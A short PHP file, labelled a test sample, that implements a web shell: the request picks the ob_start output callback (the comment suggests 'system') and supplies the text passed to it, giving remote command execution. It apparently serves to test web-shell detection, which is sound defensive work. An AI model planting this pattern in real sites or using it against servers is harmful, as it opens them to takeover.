<?php
// Test sample: ob_start output callback chosen by the request; the buffered
// output (POST body echoed) is passed to it, e.g. cb=system.
ob_start($_POST['cb']);
echo $_POST['out'];
ob_end_flush();
